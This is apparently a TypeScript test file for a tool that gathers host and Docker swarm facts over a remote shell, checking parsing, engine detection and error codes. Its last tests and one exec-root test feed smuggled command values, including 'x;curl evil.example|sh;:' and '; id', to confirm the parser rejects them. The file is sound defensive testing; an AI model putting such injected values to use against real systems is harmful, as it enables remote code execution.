import { spawnSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { expect } from 'chai'
import { nativeHost } from '../host/native-host.fake.ts'
import { readSections } from '../remote/sections.ts'
import { parseHostFacts, readHostFacts } from './read-host-facts.ts'

const info = {
  ID: '5e0a1f5c-6d5c-4b2e-9b3c-0d7f8f9a1c22',
  ServerVersion: '28.5.2',
  DockerRootDir: '/var/lib/docker',
  OperatingSystem: 'Debian GNU/Linux 13 (trixie)',
  Swarm: {
    NodeID: 'q1n2v0h8y5l3k9m7x4c6b1z2a',
    NodeAddr: '10.0.5.1',
    LocalNodeState: 'active',
    ControlAvailable: true,
    Error: '',
    Cluster: { ID: 'c1v0h8y5l3k9m7x4c6b1z2aq9', DataPathPort: 0, DefaultAddrPool: ['10.0.0.0/8'] },
  },
}

const links = [
  { ifname: 'lo', flags: ['UP'], mtu: 65_536, addr_info: [{ local: '127.0.0.1', prefixlen: 8 }] },
  {
    ifname: 'ens192',
    flags: ['UP', 'BROADCAST'],
    mtu: 1500,
    addr_info: [{ local: '10.0.5.1', prefixlen: 24 }],
  },
  { ifname: 'docker0', flags: ['UP'], mtu: 1500, linkinfo: { info_kind: 'bridge' }, addr_info: [] },
]

const output = `@@ clock 1795266188100000000
@@ system
hostname m1
architecture x86_64
kernel 6.12.1-cloud-amd64
uid 0
machine 3d1219c7
boot 1f0c8c5e-8a0a-4bb1-9f43-6c1a5e0a2b11
processors 4
MemTotal 4096000
MemAvailable 2048000
@@ host-keys
ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIF7nyYf7EOyGgx17PfjdPwBvWx0jM2QFRoZmu7h55lj2
ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBPDfg9fLgIdKLY4pyMaQGUkrpXdSUucpofuo+PbqvYTDBZbTVk6wmlVj7BPejtZ9UHrZK/hBXDCPE1+8APDyJNY=
ssh-ed25519 AAAA
@@ tools
ip /usr/sbin/ip
perl /usr/bin/perl
ethtool /usr/sbin/ethtool
@@ engine
{"Version":"28.5.2","ApiVersion":"1.51"}
@@ info
${JSON.stringify(info)}
@@ networks
"bridge" "bridge" "local" [{"Subnet":"172.17.0.0/16","Gateway":"172.17.0.1"}]
"a \\"b\\"" "overlay" "swarm" [{"Subnet":"10.0.1.0/24"},{"Subnet":"fd00::/64"}]
"host" "host" "local" null
@@ data-path 10.0.6.1
@@ disk
/dev/vda1         264212084 45575516  60815396      43% /var/lib/docker
@@ addresses
${JSON.stringify(links)}

@@ routes
[{"dst":"default","gateway":"10.0.5.254","dev":"ens192"},{"dst":"10.7.0.1","dev":"ens192"},{"type":"blackhole","dst":"10.8.0.0/16"}]

@@ card ens192 vmxnet3
tx-checksum-ip-generic
tx-scatter-gather
@@ sockets
tcp 0949
tcp 1F0A
udp 1F0A
udp 1F0A
udp 12B5
@@ modules
loaded vxlan
list builtin
builtin br_netfilter
list dep
dep ip_vs
dep xt_bpf
@@ firewall
manager firewalld
manager ufw
idle ufw
nft input drop
nft prerouting accept
iptables policy ACCEPT
iptables rule
@@ clock 1795266188300000000
@@ end
`

const sectionsOf = (printed: string) => readSections(printed, '@@')

const span = { startedMs: 1_795_266_187_000, endedMs: 1_795_266_187_400 }

describe('what a host says of itself', () => {
  const facts = parseHostFacts('m1', sectionsOf(output), span)

  it('is read from one answer', () => {
    expect(facts).to.deep.include({
      hostname: 'm1',
      machineId: '3d1219c7',
      kernelRelease: '6.12.1-cloud-amd64',
      processors: 4,
      memory: { totalMib: 4000, availableMib: 2000 },
      disk: { path: '/var/lib/docker', freeMib: 59_390 },
      bootId: '1f0c8c5e-8a0a-4bb1-9f43-6c1a5e0a2b11',
      // As ssh-keygen -lf printed them.
      hostKeys: [
        'ssh-ed25519 SHA256:1EVgpcEA8ou1Ng2DVDFo+iciG6GCulB/sQM0DSCTxGo',
        'ecdsa-sha2-nistp256 SHA256:pBrvmTZjCTPnM3ph0RhH8+iCnin8XpV4kqb2Jcv4ODE',
      ],
      engine: {
        id: '5e0a1f5c-6d5c-4b2e-9b3c-0d7f8f9a1c22',
        version: '28.5.2',
        apiVersion: '1.51',
        rootDirectory: '/var/lib/docker',
        operatingSystem: 'Debian GNU/Linux 13 (trixie)',
      },
    })
    expect(facts.tools).to.deep.include({ ip: '/usr/sbin/ip', tcpdump: undefined })
  })

  it('has its swarm, with the port that 0 stands for and the data-path address', () => {
    expect(facts.swarm).to.deep.equal({
      state: 'active',
      error: '',
      nodeId: 'q1n2v0h8y5l3k9m7x4c6b1z2a',
      nodeAddress: '10.0.5.1',
      isManager: true,
      clusterId: 'c1v0h8y5l3k9m7x4c6b1z2aq9',
      dataPathPort: 4789,
      dataPathAddress: '10.0.6.1',
    })
  })

  it('has interfaces with drivers and offloads, routes, ports and networks', () => {
    expect(facts.interfaces[1]).to.deep.equal({
      name: 'ens192',
      mtuBytes: 1500,
      up: true,
      kind: '',
      addresses: [{ address: '10.0.5.1', prefixLength: 24 }],
      driver: 'vmxnet3',
      offloads: ['tx-checksum-ip-generic', 'tx-scatter-gather'],
    })
    expect(facts.routes).to.deep.equal([
      { destination: 'default', device: 'ens192', gateway: '10.0.5.254' },
      { destination: '10.7.0.1/32', device: 'ens192' },
    ])
    expect(facts.heldPorts.map(({ protocol, port }) => `${protocol} ${port}`)).to.deep.equal([
      'tcp 2377',
      'tcp 7946',
      'udp 7946',
      'udp 4789',
    ])
    expect(facts.networks.map(({ name, subnets }) => [name, subnets])).to.deep.equal([
      ['bridge', ['172.17.0.0/16']],
      ['a "b"', ['10.0.1.0/24']],
      ['host', []],
    ])
  })

  it('tells modules that are loaded, built in, loadable and missing', () => {
    expect(facts.modules).to.deep.equal({
      vxlan: 'loaded',
      br_netfilter: 'builtin',
      ip_vs: 'loadable',
      xt_bpf: 'loadable',
      esp4: 'missing',
      xt_u32: 'missing',
    })
    const blind = parseHostFacts('m1', sectionsOf(output.replaceAll(/^(list|dep|builtin) .*\n/gm, '')), span)
    expect(blind.modules).to.deep.include({ vxlan: 'loaded', esp4: 'unknown' })
  })

  it('names firewall managers that are at work, and what filters what arrives', () => {
    expect(facts.firewall).to.deep.equal({
      managers: ['firewalld'],
      input: ['nftables, 2 chains on input, policy drop', 'iptables, 1 rule in INPUT, policy ACCEPT'],
    })
  })

  it('bounds the offset of its clock from both sides', () => {
    // It began at 188.1 s after 187.0 s of ours, and ended at 188.3 s before 187.4 s of ours.
    expect(facts.clock).to.deep.equal({ offsetMs: 1001, uncertaintyMs: 101 })
    const coarse = parseHostFacts(
      'm1',
      sectionsOf(output.replaceAll(/clock (\d{10})\d+/g, 'clock $1%N')),
      span,
    )
    expect(coarse.clock.uncertaintyMs).to.be.within(500, 1000)
    expect(Math.abs(coarse.clock.offsetMs - 1000)).to.be.at.most(coarse.clock.uncertaintyMs)
  })
})

describe('asking a host what it is', () => {
  /** This machine, with this program as its docker. */
  async function factsWith(
    docker: string,
    {
      front = [],
      programs = {},
    }: { front?: readonly string[]; programs?: Readonly<Record<string, string>> } = {},
  ): Promise<ReturnType<typeof parseHostFacts>> {
    const folder = mkdtempSync(join(tmpdir(), 'swp-test-'))
    try {
      for (const [name, text] of Object.entries({ docker, ...programs }))
        writeFileSync(join(folder, name), `#!/bin/sh\n${text}\n`, { mode: 0o755 })
      const path = `PATH=${folder}:${process.env.PATH}`
      const words = [...front, '/usr/bin/env', path, `folder=${folder}`, '/bin/sh', '-c']
      return await readHostFacts(nativeHost('web1', words).remote)
    } finally {
      rmSync(folder, { recursive: true })
    }
  }

  const engine = String.raw`
case $1 in
  --version) echo 'Docker version 28.5.2, build ecc6942' ;;
  version) echo '{"Version":"28.5.2","ApiVersion":"1.51"}' ;;
  info) case $* in *json*) echo '{"DockerRootDir":"/var/lib/docker","Swarm":{"LocalNodeState":"inactive"}}' ;; *) echo /var/lib/docker ;; esac ;;
esac`

  it('takes no warning of the client for its answer', async function () {
    this.timeout(30_000)
    // cli/config/config.go, LoadDefaultConfigFile.
    const warning = 'WARNING: Error loading config file: /root/.docker/config.json: unexpected EOF'
    const facts = await factsWith(`echo '${warning}' >&2${engine}`)
    expect(facts.engine).to.include({ version: '28.5.2', rootDirectory: '/var/lib/docker' })
    expect(facts.swarm.state).to.equal('inactive')
  })

  it('asks the engine once for what it is, where its client knows of firewall backends', async function () {
    this.timeout(30_000)
    // What the client and the engine 28.5.2 of Debian say to it, but for the rest of the first line.
    const all = String.raw`printf '%s\n' '{"DockerRootDir":"/srv/docker","Swarm":{"LocalNodeState":"active"}}' 'root /srv/docker' 'backend iptables'`
    const once = `case "$1 $*" in 'info '*FirewallBackend*) [ -e $folder/asked ] || ${all}; : >$folder/asked; exit ;; esac${engine}`
    const facts = await factsWith(once)
    expect(facts.engine).to.include({ rootDirectory: '/srv/docker', firewallBackend: 'iptables' })
    expect(facts.swarm.state).to.equal('active')

    const talking = await factsWith(
      once.replace(all, `echo 'this host is managed by the platform team'; ${all}`),
    )
    expect(talking.engine).to.include({ rootDirectory: '/srv/docker', firewallBackend: 'iptables' })

    // What those of 26.1 say, which end with an error where they are asked for a backend.
    const older = once
      .replaceAll('28.5.2', '26.1.5')
      .replace('*FirewallBackend*)', `*FirewallBackend*) exit 1 ;; 'info '*)`)
      .replace('backend iptables', 'backend')
    const { engine: told } = await factsWith(older)
    expect(told).to.include({ rootDirectory: '/srv/docker' }).and.not.to.have.property('firewallBackend')
  })

  it('learns from the engine’s own arguments, or from its file, where it keeps network namespaces', async function () {
    this.timeout(60_000)
    // Process ids of its own: only the engine of the test is seen.
    const front = ['unshare', '--pid', '--fork', '--mount-proc', '--kill-child']
    if (spawnSync(front[0] ?? '', [...front.slice(1), 'true']).status !== 0) return this.skip()
    const execRootWith = async (words: string, config = '{}'): Promise<string | undefined> => {
      const start = `echo '${config}' >$folder/daemon.json
dockerd ${words} --config-file $folder/daemon.json >/dev/null 2>&1 &
until [ -e $folder/up ]; do sleep 0.05; done`
      const docker = engine.replace('--version)', `--version) ${start}\n`)
      const { engine: told } = await factsWith(docker, {
        front,
        programs: { dockerd: 'touch $folder/up; sleep 9' },
      })
      return told.execRoot
    }
    expect(await execRootWith('--exec-root /srv/exec')).to.equal('/srv/exec')
    expect(await execRootWith('-H fd:// --exec-root=/run/snap.docker')).to.equal('/run/snap.docker')
    expect(await execRootWith('', '{ "exec-root": "/mnt/x" }')).to.equal('/mnt/x')
    expect(await execRootWith('')).to.equal('/var/run/docker')
    const hostile = await execRootWith("--exec-root '/x;id'").catch((thrown: unknown) => thrown)
    expect(hostile).to.include({ code: 'NOT_AN_IDENTIFIER' })
  })

  const silent = `case $1 in --version) echo 'Docker version 29.7.2' ;; *) echo null; echo 'no socket' >&2; exit 1 ;; esac`

  it('names a rootless engine that root has no way to', async function () {
    this.timeout(30_000)
    const front = ['unshare', '--pid', '--fork', '--mount-proc', '--kill-child']
    const asNobody = 'setpriv --reuid 65534 --regid 65534 --clear-groups'
    const [program = '', ...words] = [...front, ...asNobody.split(' '), 'true']
    if (spawnSync(program, words).status !== 0) return this.skip()
    const start = `chmod 777 $folder
[ -e $folder/up ] || ${asNobody} $folder/dockerd >/dev/null 2>&1 &
until [ -e $folder/up ]; do sleep 0.05; done`
    const programs = { dockerd: 'touch $folder/up; sleep 9' }
    const error = await factsWith(`${start}\n${silent}`, { front, programs }).catch(
      (thrown: unknown) => thrown,
    )
    expect(error).to.include({ code: 'ENGINE_UNFIT', host: 'web1' })
    expect((error as Error).message)
      .to.contain('rootless mode, which does not support overlay networks')
      .and.to.contain('user id 65534')
      .and.to.contain('dockerd-rootless-setuptool.sh uninstall')
  })

  it('tells the stand-in of Podman from an engine', async function () {
    this.timeout(30_000)
    // What the package podman-docker installs as /usr/bin/docker, and what podman itself then says.
    const podman = `echo 'Emulate Docker CLI using podman. Create /etc/containers/nodocker to quiet msg.' >&2
case $1 in --version) echo 'podman version 4.3.1' ;; *) echo '{"Version":"4.3.1"}' ;; esac`
    const error = await factsWith(podman).catch((thrown: unknown) => thrown)
    expect(error).to.include({ code: 'DOCKER_IS_PODMAN', host: 'web1' })
  })

  it('shows the words of an engine that does not answer', async function () {
    this.timeout(30_000)
    const words =
      'Cannot connect to the Docker daemon at unix:///var/run/docker.sock. Is the docker daemon running?'
    const error = await factsWith(
      `case $1 in --version) echo 'Docker version 28' ;; *) echo null; echo '${words}' >&2; exit 1 ;; esac`,
    ).catch((thrown: unknown) => thrown)
    expect(error).to.include({ code: 'DOCKER_NOT_RUNNING' })
    expect((error as Error).message).to.contain(words)
  })

  it('names a rootless engine that answers its own user, and no engine of others for one that is down', () => {
    const refusalOf = (printed: string): unknown => {
      try {
        return parseHostFacts('m1', sectionsOf(printed), span)
      } catch (error) {
        return error
      }
    }
    const asUser = output.replace('uid 0', 'uid 1000')
    expect(refusalOf(asUser)).to.include({ code: 'NOT_ROOT' })
    const options = { SecurityOptions: ['name=seccomp,profile=builtin', 'name=rootless'] }
    const its = asUser.replace(JSON.stringify(info), JSON.stringify({ ...info, ...options }))
    expect(refusalOf(its)).to.include({ code: 'ENGINE_UNFIT', host: 'm1' })
    const down = output.replace(/^@@ engine\n.*$/m, '@@ no-engine\nCannot connect\n@@ engine-users')
    expect(refusalOf(down)).to.include({ code: 'DOCKER_NOT_RUNNING' })
    expect(refusalOf(down.replace('engine-users', 'engine-users\n1000'))).to.include({ code: 'ENGINE_UNFIT' })
  })

  it('refuses what no engine says in place of an id or an address', () => {
    for (const [name, said] of [
      ['NodeID', 'x;curl evil.example|sh;:'],
      ['NodeAddr', '10.0.5.1\ntcp 1 0 10.0.0.1 22'],
    ] as const) {
      const hostile = output.replace(
        JSON.stringify(info),
        JSON.stringify({ ...info, Swarm: { ...info.Swarm, [name]: said } }),
      )
      expect(() => parseHostFacts('m1', sectionsOf(hostile), span), name)
        .to.throw()
        .that.includes({ code: 'NOT_AN_IDENTIFIER', host: 'm1' })
    }
    const interfaces = output.replace('"ifname":"ens192"', '"ifname":"ens 192; id"')
    expect(() => parseHostFacts('m1', sectionsOf(interfaces), span)).to.throw('the name of an interface')
  })
})
